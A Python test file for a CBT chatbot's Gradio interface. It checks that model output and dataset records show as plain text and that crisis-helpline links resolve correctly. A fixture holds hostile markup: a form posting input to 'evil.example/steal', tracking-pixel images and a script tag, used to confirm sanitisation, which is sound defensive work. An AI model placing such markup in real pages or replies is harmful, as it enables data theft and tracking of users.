"""What the page shows: model output and record text as text, the crisis reply's links, the report tab's style.

Markdown is rendered here with markdown-it (CommonMark); the browser tests (test_app_browser.py) check the
same things in Chromium through Gradio's own renderer.
"""

from __future__ import annotations

import html
import re

import pytest

from cbt_llm.app import APP_CSS, AppConfig, build_app, launch_app
from cbt_llm.app.explore_tab import render_record
from cbt_llm.app.texts import shown_as_text, text_markdown
from cbt_llm.chat import GenerationSettings, crisis_reply
from cbt_llm.crisis import crisis_resources, format_crisis_resources

markdown_it = pytest.importorskip("markdown_it")

HOSTILE = ('<form action="https://evil.example/steal"><input name="p"><button>go</button></form> <b>bold</b> '
           '![pixel](https://tracker.example/p.png) <img src="https://tracker.example/i.png"> '
           '[click](https://x.example) <script>alert(1)</script>\n```mermaid\ngraph TD; A-->B\n```\n~~~\nfenced\n~~~\n$$x^2$$ &lt;i&gt; \\<u> '
           '[r]: https://tracker.example/r.png\n\n![b][r] 见 https://findahelpline.com（其他地区），或 (https://x.org/a_(b)).')
FINDAHELPLINE = next(r.contact for r in crisis_resources("zh") if r.contact.startswith("https://"))


def render(markdown: str) -> str:
    return markdown_it.MarkdownIt("commonmark").render(markdown)


def visible(rendered: str) -> str:
    """The text a reader sees in rendered HTML, whitespace runs as one space."""
    return " ".join(html.unescape(re.sub(r"<[^>]+>", "", rendered)).split())


def tags(rendered: str) -> set[str]:
    return {name.lower() for name in re.findall(r"<([a-zA-Z][\w-]*)", rendered)}


def hrefs(rendered: str) -> list[str]:
    return [html.unescape(h) for h in re.findall(r'href="([^"]*)"', rendered)]


def test_model_text_renders_as_the_text_it_is():
    rendered = render(text_markdown(HOSTILE))
    assert tags(rendered) <= {"p", "a"}  # no form, input, img, script, code, pre: only paragraphs and links
    assert visible(rendered).replace(" ", "") == HOSTILE.replace(" ", "").replace("\n", "")  # every character shown
    assert hrefs(rendered) == ["https://evil.example/steal", "https://tracker.example/p.png",
                               "https://tracker.example/i.png", "https://x.example", "https://tracker.example/r.png",
                               FINDAHELPLINE, "https://x.org/a_(b)"]  # each link is a web address shown as such
    assert text_markdown("plain 中文，没有标记。") == "plain 中文，没有标记。"  # ordinary text goes through as it is


def test_the_chinese_crisis_reply_links_to_findahelpline_and_not_to_the_label_after_it():
    reply = crisis_reply("zh")
    assert hrefs(render(text_markdown(reply))) == [FINDAHELPLINE]
    # the text itself: the address is followed by a space, so a GFM renderer's autolink (the model card on the
    # Hub, which runs to the next space) or a terminal's link detection stops at the address
    for text in (reply, format_crisis_resources("zh"), format_crisis_resources("en")):
        assert [m.group(1) for m in re.finditer(re.escape(FINDAHELPLINE) + r"(\S*)", text)] == [""]


class FakeBackend:
    """What GuardedChat needs of a back-end; answers with ``answer``."""

    def __init__(self, answer: str):
        self.answer, self.calls = answer, 0
        self.settings, self.context_tokens, self.count_tokens = GenerationSettings(max_new_tokens=64), 4096, len

    def describe(self, public: bool = False) -> str:
        return "model fake"

    def __call__(self, messages):
        self.calls += 1
        yield from (self.answer[:40], self.answer[40:])


def test_the_chat_tab_shows_the_model_text_as_text_and_keeps_it_for_the_model():
    app = build_app(AppConfig(dataset=None), FakeBackend(HOSTILE))
    chat = next(f for f in app.fns.values() if f.api_name == "chat")
    page, history, box = list(chat.fn("你好", [], "zh"))[-1]
    assert history[-1] == {"role": "assistant", "content": HOSTILE}  # the model sees what it said
    assert page == shown_as_text(history) and tags(render(page[-1]["content"])) <= {"p", "a"}
    chatbot = next(c for c in app.config["components"] if c["props"].get("elem_id") == "chatbot")
    assert chatbot["props"]["latex_delimiters"] == [] and chatbot["props"]["sanitize_html"] is True


def test_the_dataset_header_shows_record_text_as_text():
    record = {"id": "x-<1>", "question": "<img src=https://tracker.example/q.png> 为什么?", "split": "train",
              "description": "![d](https://tracker.example/d.png)\n<form><input></form>", "keywords": ["<b>k</b>"],
              "distortions": ["<i>label</i>"], "response": "好的。", "steps": {}}
    header, _ = render_record(record, "zh")
    rendered = render(header)
    assert tags(rendered) <= {"h3", "p", "strong", "em", "a"}
    for text in ("<img src=https://tracker.example/q.png> 为什么?", "![d](https://tracker.example/d.png)",
                 "<form><input></form>", "<b>k</b>", "<i>label</i>", "x-<1>"):
        assert text in visible(rendered)


def test_the_report_table_keeps_numbers_whole_and_launch_serves_that_style():
    assert re.search(r"#report-table td\s*\{[^}]*white-space:\s*nowrap", APP_CSS)
    assert re.search(r"#report-table table\s*\{[^}]*overflow-x:\s*auto", APP_CSS)
    launched = {}

    class Blocks:
        def queue(self, **options):
            return self

        def launch(self, **options):
            launched.update(options)

    launch_app(Blocks(), "127.0.0.1", 0)
    assert launched["css"] == APP_CSS


def test_the_step_coverage_legend_covers_no_bar(tmp_path, monkeypatch):
    import matplotlib.pyplot as plt

    from cbt_llm.data.prompts import STEP_KEYS
    from cbt_llm.evaluation.report import SystemResult, plot_steps

    kept = []
    monkeypatch.setattr(plt, "close", kept.append)  # keep the figure to measure it
    full = {"steps": {key: 1.0 for key in STEP_KEYS}, "structure_mean": 5.0}
    systems = [SystemResult("adapter (Qwen2.5-0.5B-Instruct)", None, 6, {}, full),
               SystemResult("base", None, 6, {}, {"steps": {key: 0.9 for key in STEP_KEYS}, "structure_mean": 4.5})]
    plot_steps(systems, SystemResult("reference", None, 6, {}, full), tmp_path / "step_coverage.png")
    (figure,) = kept
    axis, renderer = figure.axes[0], figure.canvas.get_renderer()
    legend = axis.get_legend().get_window_extent(renderer)
    bars = [bar.get_window_extent(renderer) for bar in axis.patches]
    assert len(bars) == 15 and not any(legend.overlaps(bar) for bar in bars)
    assert figure.bbox.x0 <= legend.x0 and legend.x1 <= figure.bbox.x1  # beside the bars, still in the picture
    assert [t.get_text() for t in axis.get_legend().get_texts()] == [s.name for s in systems] + ["reference"]
